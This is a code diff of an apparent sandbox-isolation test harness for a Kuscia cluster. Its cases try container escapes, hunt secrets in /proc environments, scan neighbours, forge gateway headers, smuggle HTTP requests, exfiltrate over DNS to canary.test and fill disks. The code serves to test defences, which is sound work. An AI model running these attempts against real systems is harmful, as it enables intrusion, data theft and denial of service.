@@ -7,6 +7,7 @@ Every case runs in a process of its own, with a limit of time. `controls` are wh
 refusals of the rest prove nothing. The text is a config template of an AppImage: no two opening braces may stand together.
 """
 
+# ruff: noqa: UP031, UP032
 from __future__ import annotations
 
 import base64
@@ -43,17 +44,9 @@ class Refused(Exception):
 
 
 CASES = {}
-"""By name: (group, function)."""
+"""Functions by name."""
 P = {}
 """The input: addresses, paths and names of the machine."""
-
-
-def case(name):
-    def keep(function):
-        CASES[name] = function
-        return function
-
-    return keep
 
 
 def errno_name(problem):
@@ -67,13 +60,13 @@ def attempt(function):
     except Refused as problem:
         return ["refused", str(problem)[:300]]
     except ssl.SSLError as problem:
-        return ["refused", ("TLS: %s" % problem)[:300]]
+        return ["refused", ("TLS: {}".format(problem))[:300]]
     except TimeoutError:
         return ["refused", "no answer"]
     except OSError as problem:
-        return ["refused", "%s: %s" % (errno_name(problem), problem)]
+        return ["refused", "{}: {}".format(errno_name(problem), problem)]
     except Exception as problem:  # noqa: BLE001 - an attack that does not work as written proves nothing
-        return ["broken", "%s: %s" % (type(problem).__name__, problem)]
+        return ["broken", "{}: {}".format(type(problem).__name__, problem)]
 
 
 def isolated(function):
@@ -113,31 +106,33 @@ def isolated(function):
 
 def read(path):
     with open(path, "rb") as file:
-        return "%s: %r" % (path, file.read(64))
+        return "{}: {!r}".format(path, file.read(64))
 
 
 def write(path, text="x"):
     with open(path, "w") as file:
         file.write(text)
-    return "wrote %s" % path
+    return "wrote {}".format(path)
 
 
 def list_directory(path):
     """What is there beyond what an environment of this image needs."""
     expected = set(P["expected"].get(path, ()))
+    if P["kind"] == "engine" and path == "/home":
+        expected.add("kuscia")  # the domain's data, which is for its own tasks
     found = set(os.listdir(path)) - expected
     if not found:
-        raise Refused("nothing of the machine in %s" % path)
-    return "%s has %s" % (path, sorted(found))
+        raise Refused("nothing of the machine in {}".format(path))
+    return "{} has {}".format(path, sorted(found))
 
 
 def through_processes(kind):
     """The key by way of every process that can be seen."""
     found = []
     for process in glob.glob("/proc/[0-9]*"):
-        for path in P["files"].values():
-            place = "%s/%s/%s" % (process, kind, path.lstrip("/"))
-            up = "%s/%s/%s%s" % (process, kind, "../" * 12, path.lstrip("/"))
+        for path in (path for label, path in P["files"].items() if label != "table"):
+            place = "{}/{}/{}".format(process, kind, path.lstrip("/"))
+            up = "{}/{}/{}{}".format(process, kind, "../" * 12, path.lstrip("/"))
             for each in (place, up):
                 with contextlib.suppress(OSError):
                     found.append(read(each))
@@ -149,12 +144,14 @@ def through_processes(kind):
 def descriptors(process):
     """Open files that lead anywhere but to pipes, /dev and the pod's own output."""
     found = []
-    for link in glob.glob("/proc/%s/fd/*" % process):
+    for link in glob.glob("/proc/{}/fd/*".format(process)):
         with contextlib.suppress(OSError):
             target = os.readlink(link)
             if target.startswith(("pipe:", "/dev/", "anon_inode:[pid", "anon_inode:[event")) or "/fd" in target:
                 continue
-            found.append("%s -> %s" % (link, target))
+            if stat.S_ISFIFO(os.stat(link).st_mode):
+                continue  # to whoever writes this container's log
+            found.append("{} -> {}".format(link, target))
     if not found:
         raise Refused("no descriptor of anybody else")
     return found
@@ -180,8 +177,8 @@ def file_cases():
     CASES["inherited descriptors"] = lambda: INHERITED()
     CASES["descriptors of process 1"] = lambda: descriptors("1")
     CASES["file by handle of its name"] = lambda: name_to_handle(key)
-    for path in P["read only"]:
-        CASES["write " + path] = lambda path=path: write(path)
+    for label, path in P["read only"].items():
+        CASES["write " + label] = lambda path=path: write(path)
     for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/hostname",
                  "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger",
                  "/proc/self/oom_score_adj", "/proc/sys/kernel/modprobe"):  # fmt: skip
@@ -217,7 +214,7 @@ def kernel_file(path):
     with open(path, "rb") as file:
         data = file.read(16)
     if not data:
-        raise Refused("%s is empty here" % path)
+        raise Refused("{} is empty here".format(path))
     return data
 
 
@@ -237,7 +234,7 @@ def control_groups():
     for top in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified", "/run/cgroup"):
         for name in ("cgroup.procs", "release_agent", "tasks", "cgroup.subtree_control"):
             with contextlib.suppress(OSError):
-                return write("%s/%s" % (top, name), "0")
+                return write("{}/{}".format(top, name), "0")
     os.listdir("/sys/fs/cgroup")
     return "there are control groups"
 
@@ -255,7 +252,7 @@ def own_set_user_id():
     before = os.geteuid()
     said = subprocess.run([place, "-u"], capture_output=True, text=True, timeout=5).stdout.strip()
     if said == str(before):
-        raise Refused("still user %s" % said)
+        raise Refused("still user {}".format(said))
     return "became user " + said
 
 
@@ -272,8 +269,8 @@ def set_user_id_mount():
 
 def secrets_in_variables():
     found = [name for name in os.environ if "TOKEN" in name.upper() or "SECRET" in name.upper()]
-    text = "\n".join(read_all("/proc/%s/environ" % each) for each in os.listdir("/proc") if each.isdigit())
-    found += [label for label, value in P["secrets"].items() if value in text]
+    text = "\n".join(read_all("/proc/{}/environ".format(each)) for each in os.listdir("/proc") if each.isdigit())
+    found += [label for label, value in P["secrets"].items() if base64.b64decode(value).decode() in text]
     if not found:
         raise Refused("none")
     return found
@@ -315,12 +312,12 @@ NUMBERS.update(
 def call(name, *arguments):
     """Its result; OSError, whatever the kernel or a filter says."""
     if name not in NUMBERS:
-        raise Refused("there is no %s on this machine" % name)
+        raise Refused("there is no {} on this machine".format(name))
     made = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
     result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *made)
     if result < 0:
         number = ctypes.get_errno()
-        raise OSError(number, "%s: %s" % (name, os.strerror(number)))
+        raise OSError(number, "{}: {}".format(name, os.strerror(number)))
     return result
 
 
@@ -357,7 +354,7 @@ def clone3():
 
 
 def joined(process, name):
-    handle = os.open("/proc/%s/ns/%s" % (process, name), os.O_RDONLY)
+    handle = os.open("/proc/{}/ns/{}".format(process, name), os.O_RDONLY)
     return call("setns", handle, 0)
 
 
@@ -381,8 +378,8 @@ def visible_processes():
     others = []
     for each in os.listdir("/proc"):
         if each.isdigit():
-            words = read_all("/proc/%s/cmdline" % each)
-            if any(word in words for word in ("envoy", "coterie start", "supervisor", "-m\0coterie")):
+            words = "\0".join(read_all("/proc/{}/cmdline".format(each)).split("\0")[:2])
+            if any(word in words for word in ("envoy", "supervisor", "-m")):
                 others.append(words.replace("\0", " "))
     if not others:
         raise Refused("only its own")
@@ -395,7 +392,7 @@ def signal_process(pid, number=0):
 
 
 def raised_files():
-    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     try:
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
     except ValueError as problem:
@@ -505,7 +502,7 @@ def banner_of(host, port, word):
         while piece := made.recv(4096):
             said += piece
     if word.encode() not in said:
-        raise Refused("somebody else answered: %r" % said)
+        raise Refused("somebody else answered: {!r}".format(said))
     return said
 
 
@@ -531,15 +528,20 @@ def scanned():
     """Neighbours: whoever answers on the port of engines or of the victim, except this pod itself."""
     own = socket.gethostbyname(socket.gethostname())
     prefix = ".".join(P["gateway"].split(".")[:2])
-    addresses = ["%s.%d.%d" % (prefix, half, last) for half in (0, 128) for last in range(0, 12)]
-    found = []
+    addresses = ["%s.%d.%d" % (prefix, half, last) for half in (0, 128) for last in range(0, 24)]
+    begun = []
     for address in addresses:
-        if address in (own, P["gateway"], P.get("peer address")):
-            continue
-        for port in (P["victim"]["port"], P["engine victim"]["port"], 22, 10250):
-            with contextlib.suppress(OSError):
-                connected(address, port, timeout=0.3).close()
-                found.append("%s:%d" % (address, port))
+        if address not in (own, P["gateway"]):
+            for port in (P["victim"]["port"], P["engine victim"]["port"], 22, 10250):
+                made = socket.socket()
+                made.setblocking(False)
+                made.connect_ex((address, port))
+                begun.append((made, address, port))
+    time.sleep(2)
+    _, ready, _ = select.select([], [each[0] for each in begun], [], 0)
+    found = [
+        each[1:] for each in begun if each[0] in ready and not each[0].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+    ]
     if not found:
         raise Refused("nobody")
     return found
@@ -571,7 +573,7 @@ def netlink(protocol, kind, flags, body):
         made.bind((0, 0))
         made.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
         answer = made.recv(65536)
-    length, kind, _, _, _ = struct.unpack_from("=IHHII", answer)
+    _, kind, _, _, _ = struct.unpack_from("=IHHII", answer)
     number = -struct.unpack_from("=i", answer, 16)[0] if kind == 2 else 0
     if number:
         raise OSError(number, os.strerror(number))
@@ -648,7 +650,7 @@ def unix(path):
     with socket.socket(socket.AF_UNIX) as made:
         made.settimeout(SHORT)
         made.connect(path)
-    return "connected to %r" % path
+    return "connected to {!r}".format(path)
 
 
 def vsock(cid, port):
@@ -671,7 +673,7 @@ def network_cases():
         CASES["port " + label] = lambda host=host, port=port: reached(host, port)
     for label in ("machine loopback", "own API"):
         host, port = P["ports"][label]
-        CASES["port %s by eth0" % label] = lambda host=host, port=port: reached(host, port, device="eth0")
+        CASES["port {} by eth0".format(label)] = lambda host=host, port=port: reached(host, port, device="eth0")
     victim, engine = P["victim"], P["engine victim"]
     CASES["ordinary pod"] = lambda: reached(victim["address"], victim["port"])
     CASES["ordinary pod, UDP"] = lambda: datagram(victim["address"], victim["port"])
@@ -756,10 +758,10 @@ def judged(answer):
 
 
 def request(host, path, method="GET", version="HTTP/1.1", body=b"", **headers):
-    lines = ["%s %s %s" % (method, path, version)]
+    lines = ["{} {} {}".format(method, path, version)]
     if host is not None:
         lines.append("Host: " + host)
-    lines += ["%s: %s" % (name.replace("_", "-"), value) for name, value in headers.items()]
+    lines += ["{}: {}".format(name.replace("_", "-"), value) for name, value in headers.items()]
     lines += ["Connection: close"] if "Connection" not in headers else []
     lines += ["Content-Length: %d" % len(body)] if body else []
     return "\r\n".join(lines).encode() + b"\r\n\r\n" + body
@@ -771,7 +773,7 @@ def asked(host, name, path="", **more):
 
 def mark(name):
     """In the log, which has no more than the path."""
-    return "?case=%s.%s" % (P["kind"], name.replace(" ", "-").replace(",", ""))
+    return "?case={}.{}".format(P["kind"], name.replace(" ", "-").replace(",", ""))
 
 
 def frame(kind, flags, stream, payload):
@@ -799,8 +801,13 @@ def http2(*headers):
             if kind == 1:
                 # :status 200, 204, 206 and 500 stand in HPACK's table; what an upstream refuses is told by the log.
                 if payload[:1] in (b"\x88", b"\x89", b"\x8a", b"\x8e"):
-                    return "HTTP/2 answer %r" % payload[:16]
-                raise Refused("HTTP/2 answer %r" % payload[:16])
+                    made.settimeout(SHORT)
+                    with contextlib.suppress(OSError):
+                        payload += made.recv(65536)
+                    if b"engine of bob" in payload or b"pod of alice" in payload:
+                        raise Refused("the one who may be called answered")
+                    return "HTTP/2 answer {!r}".format(payload[:64])
+                raise Refused("HTTP/2 answer {!r}".format(payload[:16]))
             if kind in (3, 7):
                 raise Refused("HTTP/2 frame %d" % kind)
             buffer = buffer[9 + size :]
@@ -815,21 +822,21 @@ API = "apiserver.master.svc"
 
 
 def gateway_cases():
-    for name in P["hosts"]:
-        CASES["call " + name] = lambda name=name: asked(name, "call " + name)
+    for label, host in P["hosts"].items():
+        CASES["call " + label] = lambda label=label, host=host: asked(host, "call " + label)
     for name in ("apiserver", "kusciaapi", "kuscia-handshake"):
         for label, spelling in (
-            ("upper case", "%s.MASTER.SVC" % name.upper()),
-            ("trailing dot", "%s.master.svc." % name),
-            ("port", "%s.master.svc:80" % name),
-            ("other port", "%s.master.svc:6443" % name),
+            ("upper case", "{}.MASTER.SVC".format(name.upper())),
+            ("trailing dot", "{}.master.svc.".format(name)),
+            ("port", "{}.master.svc:80".format(name)),
+            ("other port", "{}.master.svc:6443".format(name)),
             ("short", name),
             ("short with port", name + ":80"),
             ("short with dot", name + "."),
-            ("cluster.local", "%s.alice.svc.cluster.local" % name),
-            ("user", "x@%s.master.svc" % name),
+            ("cluster.local", "{}.alice.svc.cluster.local".format(name)),
+            ("user", "x@{}.master.svc".format(name)),
         ):
-            title = "spelling %s, %s" % (name, label)
+            title = "spelling {}, {}".format(name, label)
             CASES[title] = lambda title=title, spelling=spelling: asked(spelling, title)
     forged_headers = dict(
         Kuscia_Source="alice", Kuscia_Origin_Source="alice", Kuscia_Host=API, Kuscia_Token="x", X_Coterie_Caller="node",
@@ -850,13 +857,13 @@ def gateway_cases():
         )
     )
     CASES["absolute form"] = lambda: judged(
-        exchange(request(P["allowed host"], "http://%s/%s" % (API, mark("absolute form"))))
+        exchange(request(P["allowed host"], "http://{}/{}".format(API, mark("absolute form"))))
     )
     CASES["absolute form, allowed in the line"] = lambda: never_reached(
-        exchange(request(API, "http://%s/%s" % (P["allowed host"], mark("absolute form, allowed in the line"))))
+        exchange(request(API, "http://{}/{}".format(P["allowed host"], mark("absolute form, allowed in the line"))))
     )
     CASES["absolute form, HTTP/1.0"] = lambda: judged(
-        exchange(request(None, "http://%s/%s" % (API, mark("absolute form, HTTP/1.0")), version="HTTP/1.0"))
+        exchange(request(None, "http://{}/{}".format(API, mark("absolute form, HTTP/1.0")), version="HTTP/1.0"))
     )
     CASES["absolute form to an address"] = lambda: judged(
         exchange(request("x", "http://%s:%d/%s" % (*P["ports"]["own API"], mark("absolute form to an address"))))
@@ -947,7 +954,7 @@ def smuggled():
 
 
 def pipelined():
-    first = "GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % P["allowed host"]
+    first = "GET / HTTP/1.1\r\nHost: {}\r\n\r\n".format(P["allowed host"])
     second = request(API, "/api/v1/namespaces/alice/secrets" + mark("pipelined request"))
     return never_reached(exchange(first.encode() + second))
 
@@ -988,9 +995,11 @@ def name_cases():
     CASES["zone transfer of everything"] = lambda: dns_query(".", 252, tcp=True)
     CASES["any record"] = lambda: dns_query("apiserver.alice.svc", 255)
     CASES["version of the server"] = lambda: dns_query("version.bind", 16, klass=3)
-    CASES["relay to a foreign name"] = lambda: dns_query("exfiltrated-%s.canary.test" % P["kind"])
-    CASES["relay to a foreign name, TCP"] = lambda: dns_query("exfiltrated-tcp-%s.canary.test" % P["kind"], tcp=True)
-    CASES["relay to a foreign name, TXT"] = lambda: dns_query("exfiltrated-txt-%s.canary.test" % P["kind"], 16)
+    CASES["relay to a foreign name"] = lambda: dns_query("exfiltrated-{}.canary.test".format(P["kind"]))
+    CASES["relay to a foreign name, TCP"] = lambda: dns_query(
+        "exfiltrated-tcp-{}.canary.test".format(P["kind"]), tcp=True
+    )
+    CASES["relay to a foreign name, TXT"] = lambda: dns_query("exfiltrated-txt-{}.canary.test".format(P["kind"]), 16)
     CASES["update of a zone"] = dns_update
 
 
@@ -1014,12 +1023,11 @@ def mesh(certificate, path="/api/v1/datamesh/domaindata/query", body=None, port=
         context.load_cert_chain(*certificate)
     data = json.dumps(body if body is not None else dict(domaindata_id=P["table"])).encode()
     head = "POST %s HTTP/1.1\r\nHost: datamesh\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
-    with connected(P["gateway"], port, timeout=6.0) as plain:
-        with context.wrap_socket(plain) as made:
-            made.sendall((head % (path, len(data))).encode() + data)
-            answer = b""
-            while piece := made.recv(65536):
-                answer += piece
+    with connected(P["gateway"], port, timeout=6.0) as plain, context.wrap_socket(plain) as made:
+        made.sendall((head % (path, len(data))).encode() + data)
+        answer = b""
+        while piece := made.recv(65536):
+            answer += piece
     text = answer.partition(b"\r\n\r\n")[2]
     if not answer:
         raise Refused("connection closed")
@@ -1035,21 +1043,21 @@ def own_pair():
 
 def leaked(label):
     pair = []
-    for part, text in zip(("crt", "key"), P["pairs"][label]):
+    for part, text in zip(("crt", "key"), P["pairs"][label], strict=True):
         pair.append("/tmp/%s-%d.%s" % (label.replace(" ", "-"), os.getpid(), part))
         write(pair[-1], text)
     return tuple(pair)
 
 
-def reported(task, name, host="reporter.master.svc"):
+def reported(task, host="reporter.master.svc"):
     answer = exchange(
         request(
             host,
-            "/report/progress?task_id=%s&case=%s" % (task, mark(name)[6:]),
+            "/report/progress?task_id={}".format(task),
             "POST",
             body=b'{"progress": 0.9}',
             Content_Type="application/json",
-        )  # fmt: skip
+        )
     )
     head, _, body = answer.partition(b"\r\n\r\n")
     if b" 200 " not in head.split(b"\r\n")[0] + b" ":
@@ -1068,9 +1076,7 @@ def identity_cases():
         CASES["data mesh with " + label] = lambda label=label: mesh(leaked(label))
     if P["kind"] != "ordinary":
         CASES["data without a grant"] = lambda: mesh(own_pair())
-        CASES["data mesh, list of sources"] = lambda: mesh(
-            own_pair(), "/api/v1/datamesh/domaindatasource/query", dict(datasource_id="default-data-source")
-        )
+        CASES["data mesh, place of a source"] = place_of_source
         CASES["data mesh, grant to itself"] = lambda: mesh(
             own_pair(),
             "/api/v1/datamesh/domaindatagrant/create",
@@ -1082,15 +1088,18 @@ def identity_cases():
         CASES["data mesh, delete the table"] = lambda: mesh(
             own_pair(), "/api/v1/datamesh/domaindata/delete", dict(domaindata_id=P["table"])
         )
-    CASES["report for another task"] = lambda: reported(P["other task"], "report for another task")
-    CASES["token by a config template"] = lambda: found_in(P["rendered"], P["secrets"])
+    other = P["other task"]
+    CASES["report for another task"] = lambda: reported(other)
+    if P["kind"] != "ordinary":
+        CASES["report for another task, two names"] = lambda: reported("%s&task_id=%s" % (other, P["own task"]))
+        CASES["report for another task, own name first"] = lambda: reported("%s&task_id=%s" % (P["own task"], other))
+        CASES["report for another task, by the domain's name"] = lambda: reported(other, "reporter.alice.svc")
 
 
-def found_in(path, secrets):
-    text = read_all(path)
-    found = [label for label, value in secrets.items() if value in text]
-    if not found:
-        raise Refused("not in %r" % text[:80])
+def place_of_source():
+    found = mesh(own_pair(), "/api/v1/datamesh/domaindatasource/query", dict(datasource_id="default-data-source"))
+    if not found["data"]["info"]:
+        raise Refused("its kind, but not where it is")
     return found
 
 
@@ -1158,11 +1167,12 @@ def bomb(kind):
             time.sleep(0.01)
     elif kind == "deleted":
         talk("writing")
-        kept = open("/tmp/deleted", "wb")
-        os.unlink("/tmp/deleted")
-        while True:
-            kept.write(b"x" * (4 << 20))
-            kept.flush()
+        kept = []
+        for number in range(1000):
+            kept.append(open("/tmp/deleted-%d" % number, "wb"))  # noqa: SIM115
+            os.unlink("/tmp/deleted-%d" % number)
+            kept[-1].write(b"x" * (4 << 20))
+            kept[-1].flush()
             time.sleep(0.01)
     elif kind == "output":
         line = b"x" * 1000 + b"\n"
@@ -1195,8 +1205,29 @@ def controls():
     )
     CASES["control: data mesh listens"] = lambda: connected(P["gateway"], 8071).close() or "yes"
     if P.get("peer host"):
-        CASES["control: peer"] = lambda: exchange(request(P["peer host"], "/hello")).index(b"engine of bob") and "yes"
-        CASES["control: report"] = lambda: reported(P["own task"], "control: report")
+        CASES["control: peer"] = peer_answers
+        CASES["control: report"] = lambda: reported(P["own task"])
+
+
+def peer_answers():
+    """It may start later than this pod."""
+    end = time.monotonic() + SECONDS - 2
+    while b"engine of bob" not in (answer := exchange(request(P["peer host"], "/hello"))):
+        if time.monotonic() > end:
+            raise Refused(answer[:200])
+        time.sleep(0.2)
+    return "yes"
+
+
+GROUPS = dict(
+    controls=controls,
+    files=file_cases,
+    processes=process_cases,
+    network=network_cases,
+    gateway=gateway_cases,
+    names=name_cases,
+    identity=identity_cases,
+)
 
 
 def serve(word, port):
@@ -1253,10 +1284,9 @@ def main():
         peers = [each for each in json.loads(known["cluster"])["parties"] if each["name"] != domain]
         P["peer host"] = next((s["endpoints"][0] for each in peers for s in each["services"]), "").partition(":")[0]
         P["certificates"] = os.path.join(os.getcwd(), "kuscia/certs")
-        P["rendered"] = os.path.join(os.getcwd(), "token.conf")
         P["allowed host"] = P["peer host"]
         port = int(os.environ["KUSCIA_PORT_TALK_NUMBER"])
-        if domain != P.get("attacker", "alice") or P["mode"] == "serve":
+        if domain != "alice" or P["mode"] == "serve":
             serve("engine of " + domain, port)
             signal.pause()
     else:
@@ -1267,13 +1297,8 @@ def main():
     if P["mode"] != "probe":
         bomb(P["mode"])
         return
-    controls()
-    for group in (file_cases, process_cases, network_cases, gateway_cases, name_cases, identity_cases):
-        group()
-    if P.get("only"):
-        kept = {name: function for name, function in CASES.items() if name.startswith(tuple(P["only"]) + ("control",))}
-        CASES.clear()
-        CASES.update(kept)
+    for register in GROUPS.values():
+        register()
     waiting = list(reversed(CASES.items()))
 
     def work():
